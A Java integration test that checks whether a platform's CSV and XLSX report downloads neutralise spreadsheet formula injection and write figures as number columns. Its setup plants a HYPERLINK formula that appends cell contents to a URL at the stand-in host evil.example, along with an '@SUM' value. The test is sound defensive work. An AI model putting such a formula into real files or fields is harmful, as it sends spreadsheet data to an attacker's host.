package org.liandong.deploy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.ByteArrayInputStream;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/**
 * Text a user typed is never read as a formula by a spreadsheet program (OWASP's CSV injection
 * rule: a cell starting with {@code = + - @}, tab or carriage return gets a leading quote), and the
 * figures of a report are columns of plain numbers.
 */
@DisplayName("Downloads neutralise formulas and write figures as columns")
class ExportInjectionTest {

  private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
  private static String queries;

  @BeforeAll
  static void reports() {
    LocalPlatform platform = TestPlatforms.shared();
    String commands = "http://localhost:" + platform.commandPort();
    queries = "http://localhost:" + platform.queryPort();
    Http.post(
        commands + "/campaigns",
        """
        {"campaignId": "FORMULA-2020", "name": "Export test", "focus": "IMPORT_EXPORT",
         "leadDepartment": "GACC", "participatingDepartments": ["MPS"], "regions": ["44"],
         "period": {"startsOn": "2020-03-01", "endsOn": "2020-12-31"}}
        """);
    TestPlatforms.mobilise(commands, "FORMULA-2020");
    Http.Response seizure =
        Http.post(
            commands + "/campaigns/FORMULA-2020/goods-seizures",
            """
            {"reportId": "F-1", "department": "GACC", "region": "44", "occurredOn": "2020-05-01",
             "reportedBy": %s, "category": "APPAREL",
             "quantity": {"amount": 1260.5, "unit": "piece"}, "estimatedValue": 882000.25,
             "notes": "@SUM(1+1)"}
            """
                .formatted(new com.fasterxml.jackson.databind.ObjectMapper().valueToTree(FORMULA)));
    assertThat(seizure.status()).as(seizure.body().toString()).isEqualTo(201);
    await()
        .atMost(Duration.ofSeconds(30))
        .until(
            () -> Http.get(queries + "/campaigns/FORMULA-2020/reports").body().path("items").size(),
            size -> size == 1);
  }

  @Test
  @DisplayName("CSV: the formula is quoted text, and figures are plain columns")
  void csv() {
    HttpResponse<byte[]> csv =
        Http.getBytes(queries + "/campaigns/FORMULA-2020/reports?format=csv");
    assertThat(csv.statusCode()).isEqualTo(200);
    String text = new String(csv.body(), 3, csv.body().length - 3, StandardCharsets.UTF_8);
    List<String> header = List.of(text.lines().findFirst().orElseThrow().split(","));
    assertThat(header)
        .doesNotContain("figures")
        .contains("quantity.amount", "quantity.unit", "estimatedValue", "notes");
    assertThat(text).doesNotContain("$numberDecimal").doesNotContain(",=HYPERLINK");
    assertThat(text)
        .contains("'=HYPERLINK")
        .contains("'@SUM(1+1)")
        .contains(",1260.5,piece,882000.25,");
  }

  @Test
  @DisplayName("XLSX: the formula is quoted text, and figures are number cells")
  void xlsx() throws Exception {
    HttpResponse<byte[]> xlsx =
        Http.getBytes(queries + "/campaigns/FORMULA-2020/reports?format=xlsx");
    try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx.body()))) {
      List<Row> rows = workbook.getFirstSheet().read();
      List<String> header = rows.get(0).stream().map(cell -> cell.getRawValue()).toList();
      Row report = rows.get(1);
      assertThat(report.getCellAsString(header.indexOf("reportedBy")).orElseThrow())
          .isEqualTo("'" + FORMULA);
      assertThat(report.getCellAsString(header.indexOf("notes")).orElseThrow())
          .isEqualTo("'@SUM(1+1)");
      assertThat(report.getCellAsNumber(header.indexOf("quantity.amount")).orElseThrow())
          .isEqualByComparingTo("1260.5");
      assertThat(report.getCellAsNumber(header.indexOf("estimatedValue")).orElseThrow())
          .isEqualByComparingTo("882000.25");
    }
  }
}
